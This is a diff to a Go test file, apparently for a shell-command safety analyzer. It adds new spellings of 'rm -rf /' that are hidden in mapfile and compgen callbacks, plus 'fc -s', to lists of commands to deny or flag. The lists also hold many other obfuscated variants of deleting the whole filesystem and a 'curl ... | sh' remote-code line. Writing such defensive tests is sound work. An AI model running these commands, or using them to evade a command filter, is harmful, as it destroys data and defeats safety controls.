@@ -42,6 +42,7 @@ var deniedSpellings = []string{
 	"npm exec -- rm -rf /", "poetry run rm -rf /", "bundle exec rm -rf /", "echo 'rm -rf /' | at now",
 	"at now <<<'rm -rf /'", "cat <<EOF | sh\nrm -rf /\nEOF", "cat <<<'rm -rf /' | bash",
 	"printf 'rm -rf /' > x.sh; sh x.sh", "echo 'rm -rf /' > x; . ./x", "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh", "tmux new -d 'rm -rf /'", "fakeroot rm -rf /", "systemd-run --user rm -rf /",
+	"mapfile -C 'rm -rf /' -c 1 < f", "compgen -C 'rm -rf /' x",
 }
 
 // unknownSpellings may run rm; the analysis cannot name the program.
@@ -49,7 +50,7 @@ var unknownSpellings = []string{
 	"$X -rf /", "A=rm; $A -rf /", "rm$IFS-rf /", "${IFS}rm -rf /", "/bin/r? -rf /", "/bin/r* -rf /",
 	"$(printf rm) -rf /", "`echo rm` -rf /", `eval "$X"`, `bash -c "$X"`, "sudo -u bob $CMD",
 	"curl -s https://x | sh", "cat x | bash", `"$(echo rm)" -rf /`, "$'\\x72'$M -rf /",
-	"bash <<EOF\n$CMD\nEOF",
+	"bash <<EOF\n$CMD\nEOF", "fc -s",
 }
 
 func TestDeniedSpellings(t *testing.T) {
